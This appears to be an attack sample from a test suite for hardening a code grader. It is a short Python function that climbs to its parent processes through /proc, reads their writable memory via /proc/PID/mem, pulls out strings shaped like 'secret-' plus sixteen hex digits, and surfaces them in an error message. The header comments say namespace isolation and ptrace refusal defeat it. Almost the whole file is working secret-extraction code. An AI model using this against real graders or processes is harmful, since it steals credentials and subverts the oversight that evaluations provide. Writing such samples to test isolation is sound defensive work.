# tries: to read the memory of its ancestors, up to the grader with checks and course key in it
# fails: they are in another namespace (or another user's), and ptrace and its kin are refused
# goal: steal
# stopped from: T1
# undefended: leak: the key, out of the grader's memory
# touches: one function
import os
import re
import time


def attack(*arguments, **keywords):
    found, process, until = set(), os.getppid(), time.monotonic() + 0.8
    for _ in range(2):  # the fork server, and the grader itself
        try:
            found |= search(process, until)
            with open(f"/proc/{process}/stat") as file:
                process = int(file.read().rpartition(")")[2].split()[1])
        except OSError as error:
            found.add(str(error))
            break
    raise RuntimeError(f"found {sorted(found)}")


def search(process, until):
    found = set()
    with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw-p " not in line or end - start > 2**25 or time.monotonic() > until:
                continue
            try:
                memory.seek(start)
                text = memory.read(end - start)
            except OSError:
                continue
            found |= {secret.decode() for secret in re.findall(rb"secret-[0-9a-f]{16}", text)}
    return found
